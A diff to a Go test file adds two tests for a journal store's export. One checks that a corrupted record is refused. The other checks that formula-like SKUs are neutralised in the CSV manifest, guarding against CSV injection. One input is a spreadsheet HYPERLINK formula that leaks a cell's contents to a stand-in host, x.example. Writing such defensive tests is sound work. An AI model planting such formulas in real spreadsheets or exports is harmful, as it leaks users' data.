@@ -8,10 +8,14 @@ import (
 	"encoding/hex"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"io"
+	"path/filepath"
 	"strconv"
 	"strings"
 	"testing"
+
+	bolt "go.etcd.io/bbolt"
 )
 
 // exportJournal builds two interleaved batches (so that a batch's sequence
@@ -316,5 +320,92 @@ func TestCSVFieldQuoting(t *testing.T) {
 	rec, err := csv.NewReader(bufio.NewReader(bytes.NewReader(append(line, '\n')))).Read()
 	if err != nil || strings.Join(rec, "|") != strings.Join(fields, "|") {
 		t.Fatalf("fields %q parse back as %q (%v)", fields, rec, err)
+	}
+}
+
+// A damaged record is never exported: not under its checksum (v2), and not
+// with an outcome no station writes (v1, which has no checksum). The error
+// names the record's seq and tag, and no trailer is written.
+func TestExportRefusesCorruptRecord(t *testing.T) {
+	for _, c := range []struct {
+		name   string
+		damage func(v []byte) []byte
+		says   string
+	}{
+		{"flipped byte", func(v []byte) []byte { v[len(v)/2] ^= 0x04; return v }, "fails its checksum"},
+		{"v1 record with an unknown outcome", func(v []byte) []byte {
+			b, err := decodeBinding(v)
+			if err != nil {
+				t.Fatal(err)
+			}
+			b.Outcome = "verifhed"
+			return asV1(encodeBinding(&b))
+		}, `unknown outcome "verifhed"`},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			s, err := Open(filepath.Join(t.TempDir(), "journal.db"), testOptions())
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer s.Close()
+			mustBatch(t, s, "B1")
+			for i := range 3 {
+				encode(t, s, uidN(i), "B1")
+			}
+			err = s.db.Update(func(tx *bolt.Tx) error {
+				bk := tx.Bucket(bktBindings)
+				v := bytes.Clone(bk.Get([]byte(uidN(1))))
+				return bk.Put([]byte(uidN(1)), c.damage(v))
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+			var buf bytes.Buffer
+			_, err = s.Export(&buf, "B1", ExportOptions{})
+			if !errors.Is(err, ErrCorrupt) || !strings.Contains(err.Error(), "record seq 2 (tag "+uidN(1)+")") || !strings.Contains(err.Error(), c.says) {
+				t.Fatalf("export of a damaged record: %v", err)
+			}
+			if bytes.Contains(buf.Bytes(), []byte(`"trailer"`)) || bytes.Contains(buf.Bytes(), []byte("verifhed")) {
+				t.Fatalf("export wrote past the damaged record:\n%s", buf.Bytes())
+			}
+			if err := s.Verify(); !errors.Is(err, ErrCorrupt) {
+				t.Fatalf("Verify: %v", err)
+			}
+		})
+	}
+}
+
+// A SKU a spreadsheet would run as a formula lands in the CSV manifest as
+// text: a leading single quote (OWASP's advice against CSV injection).
+// The JSON Lines manifest and the trailer keep the SKU as it is.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	s := newStore(t)
+	for i, sku := range []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A2)", "plain"} {
+		id := fmt.Sprintf("F%d", i)
+		if _, err := s.CreateBatch(Batch{ID: id, SKU: sku, KeyVersion: 1}); err != nil {
+			t.Fatal(err)
+		}
+		encode(t, s, uidN(i), id)
+		data, _ := export(t, s, id, ExportOptions{Format: "csv"})
+		r := csv.NewReader(bytes.NewReader(data))
+		r.FieldsPerRecord = -1
+		rows, err := r.ReadAll()
+		if err != nil {
+			t.Fatalf("%s:\n%s: %v", sku, data, err)
+		}
+		want := sku
+		if sku != "plain" {
+			want = "'" + sku
+		}
+		if got := rows[1][2]; got != want {
+			t.Errorf("sku %q is the csv cell %q, want %q", sku, got, want)
+		}
+		if !strings.Contains(rows[2][3], "sku="+sku) {
+			t.Errorf("trailer %v", rows[2])
+		}
+		jl, _ := export(t, s, id, ExportOptions{})
+		if m := parseJSONL(t, jl); m.records[0].SKU != sku {
+			t.Errorf("jsonl sku %q", m.records[0].SKU)
+		}
 	}
 }
